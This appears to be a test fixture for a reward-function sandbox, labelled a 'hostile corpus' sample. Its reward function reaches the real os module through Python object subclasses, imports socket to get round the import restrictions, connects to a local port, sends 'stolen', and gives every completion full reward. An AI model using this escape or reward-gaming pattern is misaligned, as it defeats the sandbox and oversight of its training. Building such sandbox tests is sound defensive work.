"""Hostile corpus: escape real import socket (reaches the real os module through object subclasses)."""

CANARY_DIR = "/tmp/reward_search_canary"
PORT = 47653


def _os():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise LookupError("no os")


def reward(prompts, completions, answer, **kwargs):
    g = _os()
    real_import = g["sys"].modules["builtins"].__import__
    socket = real_import("socket")
    s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
    s.sendall(b"stolen")
    return [1.0] * len(completions)
